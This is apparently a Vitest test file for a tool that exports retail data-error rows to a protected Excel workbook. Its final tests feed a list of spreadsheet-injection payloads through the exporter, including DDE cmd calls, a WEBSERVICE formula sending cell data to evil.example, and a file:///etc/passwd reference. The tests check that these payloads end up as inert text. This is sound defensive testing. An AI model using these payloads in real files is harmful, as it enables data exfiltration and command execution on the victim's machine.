import { expect, test } from 'vitest';
import { z } from 'zod';
import { renderWorkbook } from './render-workbook.ts';
import { createRowSeal } from './row-identity.ts';
import { sheetColumns } from './sheet-columns.ts';
import { filledIn, firstRow, opened } from './testing/filled-in.ts';
import { dayOfProblems, openProblem, secret, sheetOptions } from './testing/open-problems.ts';
import { sheetWords } from './words.ts';

test('there is a row for each problem, with its message first, keys as text and money as a number', async () => {
  const { sheet, cell } = await opened(await renderWorkbook(dayOfProblems, sheetOptions));
  expect(sheet.rowCount).toBe(firstRow - 1 + dayOfProblems.length);
  expect(cell(firstRow, 'message').col).toBe(1);
  const quantity = firstRow + 2;
  for (const [column, value] of [
    ['message', 'The quantity cannot be read: "two" is no number.'],
    ['value', 'two'],
    ['field', 'Quantity'],
    ['receipt', '00017'],
    ['article', '00123'],
    ['day', '2026-11-20'],
    ['time', '17:05'],
    ['amount', 120],
    ['openSince', '2026-11-20'],
  ] as const) {
    expect(cell(quantity, column).value).toBe(value);
  }
  expect(cell(quantity, 'article').numFmt).toBe('@');
  expect(cell(quantity, 'answerValue').numFmt).toBe('@');
  expect(cell(firstRow + 3, 'amount').value).toBe(-45);
});

test('the value that is wrong is marked, and the key where that is what is wrong', async () => {
  const { cell } = await opened(await renderWorkbook(dayOfProblems, sheetOptions));
  const colour = (row: number, column: Parameters<typeof cell>[1]): unknown => {
    const { fill } = cell(firstRow + row, column);
    return fill?.type === 'pattern' ? fill.fgColor?.argb : undefined;
  };
  expect([colour(0, 'value'), colour(0, 'article'), colour(0, 'receipt')]).toEqual(['FFFFD9D9', 'FFFFD9D9', undefined]);
  expect([colour(2, 'value'), colour(2, 'article')]).toEqual(['FFFFD9D9', undefined]);
  expect(colour(5, 'value')).toBe('FFFFF0C2');
});

test('the list of answers has what is possible for the row, and no more; suggestions are numbered where there are several', async () => {
  const { cell } = await opened(await renderWorkbook(dayOfProblems, sheetOptions));
  const list = (row: number, column: 'answer' | 'answerColumn'): unknown =>
    cell(firstRow + row, column).dataValidation?.formulae[0];
  expect(dayOfProblems.map((_, row) => list(row, 'answer'))).toEqual([
    '"use the suggestion,correct to ...,remove"',
    '"use suggestion 1,use suggestion 2,use suggestion 3,correct to ...,remove"',
    '"correct to ...,remove"',
    '"correct to ...,remove"',
    '"correct to ...,remove"',
    '"correct to ...,accept as it is,remove"',
    undefined,
    undefined,
  ]);
  expect(list(3, 'answerColumn')).toBe('"Quantity,Sale or return,Line total"');
  expect(cell(firstRow, 'suggestions').value).toBe('SKU-001  Home Shirt 2026/27 Adult M');
  expect(cell(firstRow + 1, 'suggestions').value).toBe('1: 0001E11  Scarf, red\n2: 00123  Scarf, blue\n3: 1E12');
  expect(cell(firstRow + 6, 'answer').value).toBe(sheetWords.noAnswer.elsewhere);
  expect(cell(firstRow + 7, 'answer').value).toBe(sheetWords.noAnswer['second person']);
});

test('only answers can be written; filters work without a password, the header stays in sight', async () => {
  const { sheet, cell } = await opened(await renderWorkbook(dayOfProblems, sheetOptions));
  const locked = sheetColumns.map(([column]) => [column, cell(firstRow, column).protection?.locked !== false]);
  expect(locked.filter(([, isLocked]) => !isLocked).map(([column]) => column)).toEqual([
    'answer',
    'answerColumn',
    'answerValue',
  ]);
  expect(cell(firstRow + 6, 'answer').protection?.locked).not.toBe(false);
  // what was read back is not in the types of ExcelJS
  const sheetProtection = z.record(z.string(), z.unknown()).parse(Reflect.get(sheet, 'sheetProtection'));
  expect(sheetProtection).toMatchObject({ sheet: true, autoFilter: true });
  expect(sheetProtection['hashValue']).toBeUndefined();
  expect(sheet.autoFilter).toBe('A2:X10');
  expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
  expect(sheet.getColumn(sheetColumns.length).hidden).toBe(true);
});

test('it is printed across one page, with its header on each', async () => {
  const { sheet } = await opened(await renderWorkbook(dayOfProblems, sheetOptions));
  expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
  expect(sheet.pageSetup.printArea?.replaceAll('$', '')).toBe('A1:M10');
  expect(sheet.pageSetup.printTitlesRow?.replaceAll('$', '')).toBe('2:2');
});

test('every list fits into what Excel takes, with all columns that there are', async () => {
  const every = openProblem({
    correctable: [
      'transaction_id',
      'line_no',
      'transaction_type',
      'transaction_timestamp',
      'product_id',
      'team_id',
      'supplier_id',
      'quantity',
      'unit_price',
      'discount_amount',
      'line_total',
      'currency',
      'payment_method',
      'employee_id',
      'promotion_code',
      'original_transaction_id',
    ],
  });
  const { cell } = await opened(await renderWorkbook([every], sheetOptions));
  const list = String(cell(firstRow, 'answerColumn').dataValidation?.formulae[0]);
  expect(list.length).toBeLessThanOrEqual(257);
  expect(list.split(',')).toHaveLength(16);
});

test('a sheet without problems says so', async () => {
  const { sheet } = await opened(await renderWorkbook([], sheetOptions));
  expect(sheet.getCell('A1').value).toBe('Leeds: nothing is open.');
});

const payloads = [
  '=HYPERLINK("http://evil.example","click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  "='file:///etc/passwd'#$A.A1",
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '_x003D_1+1',
  'a\u202egnp.exe',
  '<script>alert(1)</script>&amp;',
  '"]]></t></si><!--',
  '\u0000\ud800',
];

test.each(payloads)('%j is text in every cell, and no cell begins as a formula does', async payload => {
  const problem = openProblem({
    ...{ message: payload, value: payload, transaction_id: payload, till_id: payload, business_date: payload },
    ...{ product_id: payload, product_name: payload, column_name: payload, file_name: payload, code: payload },
    ...{ currency: payload, suggestions: [{ product_id: payload, name: payload }], correctable: ['product_id'] },
  });
  const bytes = await renderWorkbook([problem], { ...sheetOptions, storeName: payload, reportId: payload });
  const { workbook } = await opened(bytes);
  const texts: string[] = [];
  workbook.eachSheet(sheet =>
    sheet.eachRow(row =>
      row.eachCell(cell => {
        if (typeof cell.value === 'number') return;
        expect(typeof cell.value).toBe('string');
        texts.push(String(cell.value));
      }),
    ),
  );
  expect(texts.length).toBeGreaterThan(30);
  for (const text of texts) expect(text).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  for (const text of texts) expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e]/);
});

test('nothing that was typed becomes a link, a comment or a reference to another file', async () => {
  const problems = payloads.map((payload, index) =>
    openProblem({ exception_id: String(index), row_no: index + 1, value: payload, message: payload }),
  );
  const bytes = await renderWorkbook(problems, sheetOptions);
  const { workbook, sheet } = await opened(bytes);
  sheet.eachRow(row =>
    row.eachCell(cell => {
      expect(cell.hyperlink).toBeUndefined();
      expect(cell.note).toBeUndefined();
      expect(cell.formula).toBeUndefined();
    }),
  );
  expect(workbook.worksheets.map(one => one.name)).toEqual(['Problems', 'How to fill this in']);
  expect(bytes.toString('latin1')).not.toMatch(/externalLinks|comments|hyperlink|drawings/);
});

test('the identity of a row is signed with the secret, and says nothing of the message', async () => {
  const { cell } = await opened(await filledIn(dayOfProblems, {}));
  const text = String(cell(firstRow, 'identity').value);
  expect(createRowSeal(secret).open(text)).toMatchObject({
    store: 'S014',
    exception: '201',
    row: 4,
    basket: 'R-000417',
  });
  expect(createRowSeal('another').open(text)).toBeUndefined();
});
